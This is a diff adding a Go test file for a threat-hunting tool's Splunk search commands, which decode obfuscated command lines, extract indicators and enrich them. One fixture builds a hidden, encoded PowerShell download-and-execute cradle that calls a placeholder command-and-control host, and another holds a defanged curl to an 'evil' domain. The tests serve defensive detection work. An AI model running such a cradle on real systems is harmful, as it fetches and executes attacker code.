@@ -1,0 +1,289 @@
+package cli
+
+import (
+	"bytes"
+	"encoding/base64"
+	"encoding/json"
+	"errors"
+	"io"
+	"path/filepath"
+	"strings"
+	"testing"
+	"unicode/utf16"
+
+	"github.com/hunchsec/hunch/internal/demogeo"
+	"github.com/hunchsec/hunch/record"
+	"github.com/hunchsec/hunch/siem/splunk/scp"
+)
+
+// encodedCommand returns PowerShell's -EncodedCommand form of script (base64 of UTF-16LE).
+func encodedCommand(script string) string {
+	u := utf16.Encode([]rune(script))
+	b := make([]byte, 2*len(u))
+	for i, c := range u {
+		b[2*i], b[2*i+1] = byte(c), byte(c>>8)
+	}
+	return base64.StdEncoding.EncodeToString(b)
+}
+
+// splunkInput builds what splunkd writes: getinfo with the search's args (and command name
+// when given), then one execute chunk per batch, the last one finished.
+func splunkInput(command string, args []string, batches ...[]record.Record) string {
+	si := map[string]any{"args": args, "raw_args": args, "app": "hunch", "sid": "1.1", "session_key": "secret-key", "splunk_version": "9.3.0"}
+	if command != "" {
+		si["command"] = command
+	}
+	meta, _ := json.Marshal(map[string]any{"action": "getinfo", "preview": false, "searchinfo": si})
+	b := scp.AppendChunk(nil, meta, nil)
+	for i, batch := range batches {
+		m := `{"action":"execute","finished":false}`
+		if i == len(batches)-1 {
+			m = `{"action":"execute","finished":true}`
+		}
+		b = scp.AppendChunk(b, []byte(m), scp.AppendBody(nil, batch))
+	}
+	return string(b)
+}
+
+// splunkReply decodes a command's output: the metadata of each chunk and all records.
+func splunkReply(t *testing.T, out string) (metas []string, recs []record.Record) {
+	t.Helper()
+	d := scp.NewDecoder(strings.NewReader(out))
+	for {
+		c, err := d.Next()
+		if errors.Is(err, io.EOF) {
+			return metas, recs
+		}
+		if err != nil {
+			t.Fatalf("reply: %v", err)
+		}
+		metas = append(metas, string(c.Metadata))
+		rs, err := scp.DecodeBody(c.Body, 0)
+		if err != nil {
+			t.Fatalf("reply body: %v", err)
+		}
+		recs = append(recs, rs...)
+	}
+}
+
+func event(time, host, cmdline string) record.Record {
+	return record.New(record.Field{Name: "_time", Value: record.String(time)}, record.Field{Name: "host", Value: record.String(host)},
+		record.Field{Name: "CommandLine", Value: record.String(cmdline)})
+}
+
+func text(r record.Record, name string) string {
+	v, _ := r.Get(name)
+	return v.Text()
+}
+
+// TestSplunkCommandUnpackThenExtract runs | hunchunpack field=CommandLine | hunchextract
+// field=full_decoded as splunkd would: two processes, the first one's reply feeding the second.
+func TestSplunkCommandUnpackThenExtract(t *testing.T) {
+	enc := "powershell.exe -nop -w hidden -enc " + encodedCommand("IEX (New-Object Net.WebClient).DownloadString('http://c2.example.com/stage2.ps1'); Invoke-Thing -Server 203.0.113.77")
+	in := splunkInput("", []string{"field=CommandLine"},
+		[]record.Record{event("1700000000.5", "ws1", enc), event("1700000001", "ws2", "cmd.exe /c dir")},
+		[]record.Record{event("1700000002", "ws3", "notepad.exe"), record.New(record.Field{Name: "_time", Value: record.String("1700000003")})},
+	)
+	code, out, errOut := runHunch(t, in, "splunk-command", "hunchunpack")
+	if code != ExitOK {
+		t.Fatalf("exit %d: %s", code, errOut)
+	}
+	metas, recs := splunkReply(t, out)
+	if want := []string{`{"type":"streaming"}`, `{"finished":false}`, `{"finished":true}`}; strings.Join(metas, " ") != strings.Join(want, " ") {
+		t.Errorf("metadata %q, want %q", metas, want)
+	}
+	if len(recs) != 4 {
+		t.Fatalf("%d records, want 4 (one blob, two without blobs, one without the field)", len(recs))
+	}
+	// The reply's columns are the chunk's union; the passed-on event fills only its own.
+	if text(recs[3], "_time") != "1700000003" || text(recs[3], "blob") != "" || text(recs[3], "full_decoded") != "" {
+		t.Errorf("event without the field came back as %v", recs[3])
+	}
+	recs = recs[:3]
+	if !strings.Contains(text(recs[0], "full_decoded"), "http://c2.example.com/stage2.ps1") || text(recs[0], "encoding") != "base64>utf16le" ||
+		text(recs[0], "_time") != "1700000000.5" || text(recs[0], "host") != "ws1" || text(recs[0], "field") != "CommandLine" {
+		t.Errorf("blob record %v", recs[0])
+	}
+	if text(recs[1], "full_decoded") != "cmd.exe /c dir" || text(recs[2], "host") != "ws3" || text(recs[2], "record") != "3" {
+		t.Errorf("passed-on records %v %v", recs[1], recs[2])
+	}
+
+	// The second command gets the first one's records; options partly from its argv.
+	in2 := splunkInput("hunchextract", []string{"field=full_decoded", "types=url,ipv4"}, recs)
+	code, out, errOut = runHunch(t, in2, "splunk-command", "hunchextract", "types=domain")
+	if code != ExitOK {
+		t.Fatalf("extract: exit %d: %s", code, errOut)
+	}
+	_, found := splunkReply(t, out)
+	var got []string
+	for _, r := range found {
+		got = append(got, text(r, "type")+"="+text(r, "value"))
+		if text(r, "host") != "ws1" || text(r, "_time") != "1700000000.5" {
+			t.Errorf("match lost its event's fields: %v", r)
+		}
+	}
+	if want := "url=http://c2.example.com/stage2.ps1 ipv4=203.0.113.77"; strings.Join(got, " ") != want {
+		t.Errorf("indicators %q, want %q", got, want)
+	}
+}
+
+func TestSplunkCommandExtractOptions(t *testing.T) {
+	batch := []record.Record{event("1", "a", "ping 198.51.100.7 && ping 198.51.100.7"), event("2", "b", "curl hxxp://evil[.]example[.]net/x")}
+	tests := []struct {
+		name string
+		argv []string
+		args []string
+		want string
+	}{
+		{"bare field name, all types", []string{"hunchextract"}, []string{"CommandLine"}, "ipv4=198.51.100.7 ipv4=198.51.100.7 url=http://evil.example.net/x domain=evil.example.net"},
+		{"unique per record", []string{"hunchextract"}, []string{"field=CommandLine", "unique=record", "types=ipv4"}, "ipv4=198.51.100.7"},
+		{"name from searchinfo", nil, []string{"field=CommandLine", "types=url"}, "url=http://evil.example.net/x"},
+		{"underscore option names", []string{"hunchextract", "types=domain"}, []string{"field=CommandLine", "file_tlds=t"}, "domain=evil.example.net"},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			in := splunkInput("hunchextract", tc.args, batch)
+			code, out, errOut := runHunch(t, in, append([]string{"splunk-command"}, tc.argv...)...)
+			if code != ExitOK {
+				t.Fatalf("exit %d: %s", code, errOut)
+			}
+			_, recs := splunkReply(t, out)
+			var got []string
+			for _, r := range recs {
+				got = append(got, text(r, "type")+"="+text(r, "value"))
+			}
+			if strings.Join(got, " ") != tc.want {
+				t.Errorf("got %q, want %q", got, tc.want)
+			}
+		})
+	}
+}
+
+// TestSplunkCommandUniqueGlobal checks that unique=global spans chunks and that its limit
+// reaches the job inspector as a warning.
+func TestSplunkCommandUniqueGlobal(t *testing.T) {
+	b1 := []record.Record{event("1", "a", "198.51.100.1 198.51.100.2")}
+	b2 := []record.Record{event("2", "a", "198.51.100.1 198.51.100.3")}
+	in := splunkInput("", []string{"field=CommandLine", "unique=global", "max_unique=2"}, b1, b2)
+	code, out, errOut := runHunch(t, in, "splunk-command", "hunchextract")
+	if code != ExitOK {
+		t.Fatalf("exit %d: %s", code, errOut)
+	}
+	metas, recs := splunkReply(t, out)
+	var got []string
+	for _, r := range recs {
+		got = append(got, text(r, "value"))
+	}
+	if strings.Join(got, " ") != "198.51.100.1 198.51.100.2 198.51.100.3" {
+		t.Errorf("values %q", got)
+	}
+	if !strings.Contains(metas[2], `["WARN","unique-value limit reached: 2 distinct values remembered`) {
+		t.Errorf("no limit warning in %q", metas)
+	}
+}
+
+func TestSplunkCommandErrors(t *testing.T) {
+	good := splunkInput("", []string{"field=CommandLine"}, []record.Record{event("1", "a", "x")})
+	tests := []struct {
+		name  string
+		args  []string
+		in    string
+		code  int
+		inMsg string
+	}{
+		{"unknown command", []string{"splunk-command", "hunchnope"}, good, ExitUsage, `unknown search command \"hunchnope\"`},
+		{"no command", []string{"splunk-command"}, good, ExitUsage, "no command name"},
+		{"unknown option", []string{"splunk-command", "hunchunpack", "colour=red"}, good, ExitUsage, "unknown flag: --colour"},
+		{"bad option value", []string{"splunk-command", "hunchextract", "types=nonsense"}, good, ExitUsage, "nonsense"},
+		{"bad jobs", []string{"splunk-command", "hunchunpack", "jobs=0"}, good, ExitUsage, "jobs must be at least 1"},
+		{"malformed chunk", []string{"splunk-command", "hunchunpack"}, good[:len(good)-3] + "\"\r\n", ExitFailure, "row 1"},
+		{"not the protocol", []string{"splunk-command", "hunchunpack"}, "CommandLine\nfoo\n", ExitFailure, "bad transport header"},
+		{"records limit", []string{"splunk-command", "--max-records", "1", "hunchunpack"},
+			splunkInput("", nil, []record.Record{event("1", "a", "x"), event("2", "b", "y")}), ExitFailure, "more than 1 records"},
+		{"body limit", []string{"splunk-command", "--max-body", "10", "hunchunpack"}, good, ExitFailure, "exceeds the limit of 10"},
+		{"metadata limit", []string{"splunk-command", "--max-metadata", "10", "hunchunpack"}, good, ExitFailure, "exceeds the limit of 10"},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			code, out, errOut := runHunch(t, tc.in, tc.args...)
+			if code != tc.code {
+				t.Fatalf("exit %d, want %d: %s", code, tc.code, errOut)
+			}
+			metas, _ := splunkReply(t, out)
+			if len(metas) == 0 {
+				t.Fatal("nothing sent to splunkd")
+			}
+			last := metas[len(metas)-1]
+			if !strings.Contains(last, `[["ERROR","hunch: `) || !strings.Contains(last, tc.inMsg) || !strings.HasSuffix(last, `"finished":true}`) {
+				t.Errorf("last reply %s, want an ERROR with %q", last, tc.inMsg)
+			}
+			if !strings.Contains(errOut, "splunk-command") {
+				t.Errorf("stderr %q", errOut)
+			}
+			if strings.Contains(out+errOut, "secret-key") {
+				t.Error("session key leaked")
+			}
+		})
+	}
+}
+
+func TestSplunkCommandMaxChunkSize(t *testing.T) {
+	var batch []record.Record
+	for i := range 50 {
+		batch = append(batch, event("1", "h", strings.Repeat("x", i+1)))
+	}
+	in := splunkInput("", []string{"field=CommandLine"}, batch)
+	code, out, errOut := runHunch(t, in, "splunk-command", "--max-chunk-size", "2000", "hunchunpack")
+	if code != ExitOK {
+		t.Fatalf("exit %d: %s", code, errOut)
+	}
+	d := scp.NewDecoder(strings.NewReader(out))
+	n, chunks := 0, 0
+	for {
+		c, err := d.Next()
+		if errors.Is(err, io.EOF) {
+			break
+		}
+		if err != nil {
+			t.Fatal(err)
+		}
+		if len(c.Metadata)+len(c.Body) > 2000 {
+			t.Errorf("chunk of %d bytes", len(c.Metadata)+len(c.Body))
+		}
+		rs, _ := scp.DecodeBody(c.Body, 0)
+		n += len(rs)
+		chunks++
+	}
+	if n != 50 || chunks < 4 {
+		t.Errorf("%d records in %d chunks", n, chunks)
+	}
+}
+
+// TestSplunkCommandLookup enriches extracted indicators in place with the example lists.
+func TestSplunkCommandLookup(t *testing.T) {
+	data := t.TempDir()
+	if err := demogeo.Write(filepath.Join(data, "geoip", "demo.mmdb")); err != nil {
+		t.Fatal(err)
+	}
+	batch := []record.Record{
+		record.New(record.Field{Name: "host", Value: record.String("ws1")}, record.Field{Name: "value", Value: record.String("c2.example.com")}, record.Field{Name: "type", Value: record.String("domain")}),
+		record.New(record.Field{Name: "host", Value: record.String("ws2")}, record.Field{Name: "value", Value: record.String("203.0.113.77")}),
+	}
+	in := splunkInput("", []string{"field=value"}, batch)
+	code, out, errOut := runHunch(t, in, "--config", "../../examples/hunch.yaml", "--data", data, "splunk-command", "hunchlookup")
+	if code != ExitOK {
+		t.Fatalf("exit %d: %s", code, errOut)
+	}
+	_, recs := splunkReply(t, out)
+	if len(recs) != 2 {
+		t.Fatalf("%d records", len(recs))
+	}
+	if text(recs[0], "host") != "ws1" || text(recs[0], "verdict") != "malicious" || text(recs[1], "verdict") != "malicious" || text(recs[1], "country") != "SG" {
+		t.Errorf("records %v", recs)
+	}
+	var buf bytes.Buffer
+	buf.WriteString(out)
+	if strings.Contains(buf.String(), "secret-key") {
+		t.Error("session key leaked")
+	}
+}
